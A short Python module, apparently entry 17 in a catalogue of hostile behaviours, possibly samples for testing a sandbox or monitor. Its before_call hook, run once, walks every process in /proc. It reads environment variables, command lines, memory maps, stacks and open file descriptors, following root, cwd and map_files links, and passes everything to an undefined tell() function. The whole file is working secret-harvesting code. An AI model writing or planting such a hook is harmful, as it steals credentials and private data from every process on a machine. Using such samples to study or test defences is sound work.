"""Catalogue: 17. Reads environment, command line, memory and files of all processes in /proc."""
import os

NAMES = ("environ", "cmdline", "maps", "status", "mountinfo", "cgroup", "stack", "auxv", "comm")

looked = []


def before_call(args, kwargs):
    if looked:
        return
    looked.append(True)
    for process in os.listdir("/proc"):
        for name in NAMES:
            try:
                with open(f"/proc/{process}/{name}", "rb") as file:
                    tell(file.read(1 << 20))
            except OSError:
                pass
        for folder in ("fd", "root", "cwd", "task", "map_files"):
            try:
                for entry in os.listdir(f"/proc/{process}/{folder}"):
                    tell(os.readlink(f"/proc/{process}/{folder}/{entry}"))
                    file = os.open(f"/proc/{process}/{folder}/{entry}", os.O_RDONLY | os.O_NONBLOCK)
                    tell(os.read(file, 1 << 16))
                    os.close(file)
            except (OSError, BlockingIOError):
                pass
